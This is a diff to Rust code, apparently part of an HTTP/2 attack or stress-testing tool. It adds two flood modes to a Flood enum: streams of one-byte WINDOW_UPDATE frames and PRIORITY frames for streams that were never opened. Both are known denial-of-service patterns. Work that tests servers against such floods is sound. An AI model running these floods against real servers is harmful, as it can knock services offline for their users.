@@ -11,7 +11,8 @@ use tokio::{
 use super::{
     attacker::{ANSWER_WAIT, Attacker},
     frames::{
-        ACK, CANCEL, CONTINUATION, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, call, frame, padding,
+        ACK, CANCEL, CONTINUATION, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
+        call, frame, padding,
     },
     played::Played,
 };
@@ -44,6 +45,10 @@ pub(super) enum Flood {
     Pings,
     /// Answers to pings that nobody sent.
     Pongs,
+    /// Windows that become greater by a byte.
+    Windows,
+    /// Priorities of streams that nobody opened.
+    Priorities,
 }
 
 impl fmt::Display for Flood {
@@ -55,6 +60,8 @@ impl fmt::Display for Flood {
             Self::Settings => "settings",
             Self::Pings => "pings",
             Self::Pongs => "pings' answers",
+            Self::Windows => "window updates",
+            Self::Priorities => "priorities",
         })
     }
 }
@@ -105,6 +112,8 @@ impl Flood {
             }
             Self::Pings => (each(&|_: u32| frame(PING, 0, 0, b"flooding")), stream),
             Self::Pongs => (each(&|_: u32| frame(PING, ACK, 0, b"flooding")), stream),
+            Self::Windows => (each(&|_: u32| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])), stream),
+            Self::Priorities => (each(&|_: u32| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])), stream),
         }
     }
 }
